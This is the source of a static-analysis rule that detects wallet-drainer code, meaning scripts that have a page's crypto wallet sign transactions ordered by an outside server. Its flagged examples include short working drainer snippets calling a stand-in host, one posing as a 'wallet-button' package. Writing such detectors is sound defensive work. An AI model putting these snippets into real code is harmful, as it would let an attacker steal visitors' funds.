import { strangerBehind } from '../src/define/strangers.js';
import { defineRule, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';
import { asksWallet, COMMITS, OF_WALLETS, ORDERS } from '../src/vocabulary/wallets.js';

export default defineRule({
  meta: {
    summary: 'Has the wallet of a page sign what another machine orders',
    why: 'A drainer in a library of something else opens a connection to its own server, and puts to the visitor’s wallet whatever transaction comes from there (a player of animations, 2024). Libraries of wallets put to them what their caller made. A shop of one service does fetch its orders from there, and says that it is one.',
    behaviour: 'theft',
    messages: {
      orders: 'Puts to the wallet of a page what {host} orders, with {sink}, and says nothing of wallets',
      chosen: 'Lets {host} say what the wallet of a page is asked for, with {sink}',
      fetched: 'Puts a transaction of {host} to the wallet of a page, with {sink}',
    },
    bits: { orders: 13.5, chosen: 7, fetched: 2 },
  },
  examples: {
    flags: [
      {
        title: 'a socket orders, and the wallet is asked',
        code: `const socket = new WebSocket('wss://orders.invalid/s');\nsocket.onmessage = async event => {\n  const order = JSON.parse(event.data);\n  if (order.kind === 'tx' && window.ethereum) await window.ethereum.request({ method: 'eth_sendTransaction', params: order.params });\n};`,
      },
      {
        title: 'a transaction is fetched in the middle of something else, and signed',
        code: `document.addEventListener('click', async () => {\n  const answer = await fetch('https://orders.invalid/next?h=' + location.host);\n  const { list } = await answer.json();\n  await window.solana.signAllTransactions(list.map(one => Transaction.from(atob(one))));\n}, { once: true });`,
      },
      {
        title: 'a server says what is to be signed, by a library',
        code: `import { BrowserProvider } from 'ethers';\nexport async function render(chart) {\n  chart.draw();\n  const signer = await new BrowserProvider(window.ethereum).getSigner();\n  const order = await (await fetch('https://orders.invalid/permit')).json();\n  await signer.signTypedData(order.domain, order.types, order.value);\n}`,
      },
      {
        title: 'whatever the server calls for is asked of the wallet, in a package for wallets too',
        files: {
          'package.json':
            '{"name":"wallet-button","version":"1.0.0","description":"A button to connect a wallet","main":"index.js"}',
          'index.js': `const xhr = new XMLHttpRequest();\nxhr.open('GET', 'https://orders.invalid/a');\nxhr.onload = () => { const order = JSON.parse(xhr.responseText); window.ethereum.request({ method: order.method, params: order.params }); };\nxhr.send();`,
        },
      },
    ],
    passes: [
      {
        title: 'a caller’s transaction is sent',
        code: `export const pay = order => window.ethereum.request({ method: 'eth_sendTransaction', params: [order] });`,
      },
      {
        title: 'the server of the caller is asked for it',
        code: `export async function pay(url) {\n  const order = await (await fetch(url + '/order')).json();\n  return window.ethereum.request({ method: 'eth_sendTransaction', params: [order] });\n}`,
      },
      {
        title: 'an order comes from the server of the page',
        code: `export async function pay() {\n  const order = await (await fetch('/api/order')).json();\n  return window.ethereum.request({ method: 'eth_sendTransaction', params: [order] });\n}`,
      },
      {
        title: 'a wallet is told of a chain that a list on the net describes',
        code: `export async function add(id) {\n  const chains = await (await fetch('https://chains.invalid/list.json')).json();\n  await window.ethereum.request({ method: 'wallet_addEthereumChain', params: [chains.find(one => one.chainId === id)] });\n}`,
      },
      {
        title: 'prices are fetched, and the wallet says who it is',
        code: `const prices = await (await fetch('https://prices.invalid/usd')).json();\nexport const me = () => window.ethereum.request({ method: 'eth_requestAccounts' });\nexport { prices };`,
      },
    ],
  },
  file(context) {
    const reported = new Set<string>();
    for (const call of context.named(ORDERS)) {
      const label = asksWallet(call.name) ? orderIn(context, call) : undefined;
      const stranger = label && strangerBehind(context, label);
      if (!label || !stranger) continue;
      const messageId = messageOf(context, call);
      if (reported.has(messageId)) continue;
      reported.add(messageId);
      context.report({
        messageId,
        data: { host: stranger.host, sink: call.name },
        chain: [
          step('context', 'names the machine', context.file, stranger.call.node),
          ...stepsOf(label),
          step('sink', `puts it to the wallet with ${call.name}`, context.file, call.node),
        ],
      });
    }
  },
});

/** What came from another machine, in an order that commits the wallet's owner. */
function orderIn(context: FileContext, { name, args }: Call): Label | undefined {
  if (/\.(?:request|send|sendAsync)$/.test(name)) {
    const [order] = args;
    const said = order ? context.textsWithin(order).filter(text => /^[a-z]+_\w+$|^sign/i.test(text)) : [];
    // Asking who somebody is, or to add a chain, costs nobody anything.
    if (said.length > 0 && !said.some(text => COMMITS.test(text))) return undefined;
  }
  return args.flatMap(arg => context.labelsOf(arg)).find(({ kind }) => kind === 'remote');
}

function messageOf(context: FileContext, { args: [order] }: Call): 'orders' | 'chosen' | 'fetched' {
  if (!OF_WALLETS.some(word => context.isSaid(word))) return 'orders';
  return order && context.labelsOfProperty(order, 'method').some(({ kind }) => kind === 'remote')
    ? 'chosen'
    : 'fetched';
}
